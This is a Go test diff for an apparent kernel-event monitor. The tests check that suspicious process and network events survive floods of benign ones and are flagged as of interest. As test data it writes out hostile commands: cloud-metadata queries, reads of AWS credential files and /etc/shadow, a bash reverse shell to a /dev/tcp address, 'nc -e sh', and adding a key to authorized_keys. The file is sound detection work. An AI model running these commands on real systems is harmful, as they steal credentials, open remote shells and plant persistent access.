@@ -78,3 +78,118 @@ func TestConnectHost(t *testing.T) {
 		}
 	}
 }
+
+// TestKernelBudgetJudgedFirst: 500 distinct commands and connects to 500
+// distinct hosts fill their kinds' reserves; the payload that follows
+// (the metadata service, a credential read through a shell, /dev/tcp, a
+// connect out from another process, a shell on a socket) is kept all the
+// same, and the flood is counted as one.
+func TestKernelBudgetJudgedFirst(t *testing.T) {
+	var b KernelBudget
+	for i := range 500 {
+		b.Keep(moat.Event{Source: moat.SourceKernel, Kind: moat.KindExec, Path: "/bin/echo", Detail: fmt.Sprintf("echo %d", i)})
+		b.Keep(moat.Event{Source: moat.SourceKernel, Kind: moat.KindConnect, Addr: fmt.Sprintf("10.%d.%d.1:80", i/250, i%250), PID: 7})
+	}
+	for _, ev := range []moat.Event{
+		{Kind: moat.KindExec, Path: "/usr/bin/curl", Detail: "curl -s http://169.254.169.254/latest/meta-data/iam/"},
+		{Kind: moat.KindExec, Path: "/bin/sh", Detail: "sh -c cat ~/.aws/credentials"},
+		{Kind: moat.KindExec, Path: "/bin/bash", Detail: "bash -c bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"},
+		{Kind: moat.KindExec, Path: "/bin/sh", Detail: "sh", Stdio: "0,1,2"},
+		{Kind: moat.KindExec, Path: "/tmp/.cache-update", Detail: ".cache-update"},
+		{Kind: moat.KindConnect, Addr: "203.0.113.7:443", PID: 9},
+	} {
+		ev.Source = moat.SourceKernel
+		if !b.Keep(ev) {
+			t.Errorf("the payload's %s %s%s after the flood was dropped", ev.Kind, ev.Detail, ev.Addr)
+		}
+	}
+	ev, n, ok := b.Event("kernel events")
+	if !ok || ev.Name != string(moat.SourceKernel) || n < 500-400 || !strings.Contains(ev.Detail, "exec 100") {
+		t.Errorf("drop event %+v, %d dropped: want a kernel flood of the 100 plain execs and some connects", ev, n)
+	}
+}
+
+// TestKernelBudgetInterestFlood: a flood of events of interest (10,000
+// distinct metadata URLs) is kept in a bounded sample that reaches its
+// end, and cannot hide an event of another reason; what is not kept is
+// counted as such.
+func TestKernelBudgetInterestFlood(t *testing.T) {
+	var b KernelBudget
+	const n = 10000
+	kept, last := 0, 0
+	for i := range n {
+		if b.Keep(moat.Event{Source: moat.SourceKernel, Kind: moat.KindExec, Path: "/usr/bin/curl",
+			Detail: fmt.Sprintf("curl http://169.254.169.254/latest/meta-data/%d", i)}) {
+			kept++
+			last = i
+		}
+	}
+	// the reserve, the reason's first, the process's, and interestPerLevel in each of
+	// the 9 doublings from InterestFirst past the reserve to n
+	want := KernelReserve(moat.KindExec) + InterestFirst + InterestPerProcess + 9*interestPerLevel
+	if kept > want || kept < want-interestPerLevel {
+		t.Errorf("kept %d of %d, want about %d", kept, n, want)
+	}
+	if last < n-n/8 {
+		t.Errorf("the last kept is the %dth of %d: the sample does not reach the run's end", last, n)
+	}
+	if !b.Keep(moat.Event{Source: moat.SourceKernel, Kind: moat.KindExec, Path: "/bin/sh", Detail: "sh -c cat /etc/shadow"}) {
+		t.Error("a credential read after a flood of metadata URLs was dropped")
+	}
+	ev, dropped, ok := b.Event("kernel events")
+	if !ok || ev.Name != string(moat.SourceKernel) || dropped != n-kept || !strings.Contains(ev.Detail, "exec (of interest) ") {
+		t.Errorf("drop event %+v, %d dropped: want %d of interest", ev, dropped, n-kept)
+	}
+}
+
+// TestKernelBudgetSampleBound: floods of every reason at once keep at
+// most MaxKernelEvents.
+func TestKernelBudgetSampleBound(t *testing.T) {
+	var b KernelBudget
+	kept := 0
+	lines := []string{"curl 169.254.169.254/%d", "cat /etc/shadow%d", "echo >/dev/tcp/h/%d", "nc -e sh h %d", "wget x%d",
+		"base64 -d %d", "crontab x%d", "sh -i %d"}
+	for i := range 20000 {
+		ev := moat.Event{Source: moat.SourceKernel, Kind: moat.KindExec, Path: "/bin/sh", Detail: fmt.Sprintf(lines[i%len(lines)], i)}
+		if i%3 == 0 {
+			ev = moat.Event{Source: moat.SourceKernel, Kind: moat.KindConnect, Addr: fmt.Sprintf("10.%d.%d.%d:1", i>>16, (i>>8)&255, i&255)}
+		}
+		if b.Keep(ev) {
+			kept++
+		}
+	}
+	if kept > MaxKernelEvents {
+		t.Errorf("kept %d, more than MaxKernelEvents %d", kept, MaxKernelEvents)
+	}
+}
+
+func TestInterest(t *testing.T) {
+	for _, c := range []struct {
+		ev   moat.Event
+		want bool
+	}{
+		{moat.Event{Kind: moat.KindExec, Path: "/bin/echo", Detail: "echo hello"}, false},
+		{moat.Event{Kind: moat.KindExec, Path: "/usr/bin/git", Detail: "git status --porcelain"}, false},
+		{moat.Event{Kind: moat.KindExecFailed, Path: "/work/.venv/bin/fc-list", Detail: "fc-list :style=bold"}, false},
+		{moat.Event{Kind: moat.KindExec, Path: "/bin/sh", Detail: "sh -c uname -p"}, false},
+		{moat.Event{Kind: moat.KindConnect, Addr: "127.0.0.1:8080"}, false},
+		{moat.Event{Kind: moat.KindConnect, Addr: "[::1]:80"}, false},
+		{moat.Event{Kind: moat.KindConnect, Addr: "10.0.0.2:53"}, false},
+		{moat.Event{Kind: moat.KindConnect, Path: "/run/x.sock"}, false},
+		{moat.Event{Kind: moat.KindDenied, Name: "ptrace"}, false},
+		{moat.Event{Kind: moat.KindConnect, Addr: "203.0.113.7:443", PID: 9}, true},
+		{moat.Event{Kind: moat.KindExec, Path: "/usr/bin/curl", Detail: "curl http://169.254.169.254/latest"}, true},
+		{moat.Event{Kind: moat.KindExecFailed, Path: "/bin/sh", Detail: "sh -c cat ~/.AWS/credentials"}, true},
+		{moat.Event{Kind: moat.KindExec, Path: "/bin/bash", Detail: "bash -c bash -i >& /dev/tcp/h/1 0>&1"}, true},
+		{moat.Event{Kind: moat.KindExec, Path: "/bin/bash", Detail: "bash -i"}, true},
+		{moat.Event{Kind: moat.KindExec, Path: "/bin/sh", Detail: "sh", Stdio: "0,1"}, true},
+		{moat.Event{Kind: moat.KindExec, Path: "/usr/bin/nc", Detail: "nc h 1"}, true},
+		{moat.Event{Kind: moat.KindExec, Path: "/tmp/x", Detail: "x"}, true},
+		{moat.Event{Kind: moat.KindExec, Path: "/proc/self/fd/3", Detail: "x"}, true},
+		{moat.Event{Kind: moat.KindExec, Path: "/bin/sh", Detail: "sh -c echo k >> ~/.ssh/authorized_keys"}, true},
+	} {
+		if got := Interest(c.ev); (got != "") != c.want {
+			t.Errorf("Interest(%+v) = %q, want of interest %v", c.ev, got, c.want)
+		}
+	}
+}
